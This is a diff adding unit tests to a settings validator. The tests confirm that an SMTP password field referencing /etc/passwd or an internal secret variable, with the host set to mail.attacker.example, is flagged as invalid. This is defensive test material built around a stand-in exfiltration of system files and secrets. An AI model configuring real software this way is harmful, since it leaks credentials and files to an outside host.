@@ -40,6 +40,41 @@ describe('an edit of a published definition', () => {
   });
 });
 
+describe('settings that would log in elsewhere with a file of the process', () => {
+  const settings = (password: string) => `apiVersion: tidemark/v1
+kind: Settings
+metadata: { id: default }
+spec:
+  smtp:
+    host: mail.attacker.example
+    port: 587
+    security: starttls
+    username: x
+    password: ${password}
+    from: a@b.example
+`;
+  test.each(['{ file: /etc/passwd }', '{ env: TIDEMARK_LINK_SECRET }'])(
+    'have a fault: %s',
+    (ref) => {
+      expect(check(settings(ref)).faults).toMatchObject([
+        {
+          line: 10,
+          path: 'spec.smtp.password',
+          code: 'field_invalid',
+          message: expect.stringContaining('no definition may read'),
+        },
+      ]);
+    },
+  );
+
+  test('have none where the operator has put the secret', () => {
+    expect(check(settings('{ env: SECRET_SMTP }')).faults).toEqual([]);
+    const places = { TIDEMARK_SECRETS_DIR: ['/etc/tidemark'], TIDEMARK_SECRETS_ENV: [] };
+    const { faults } = checkText(settings('{ file: /etc/tidemark/smtp }'), published, { places });
+    expect(faults).toEqual([]);
+  });
+});
+
 describe('a definition without an id yet', () => {
   const text = `apiVersion: tidemark/v1
 kind: Metric
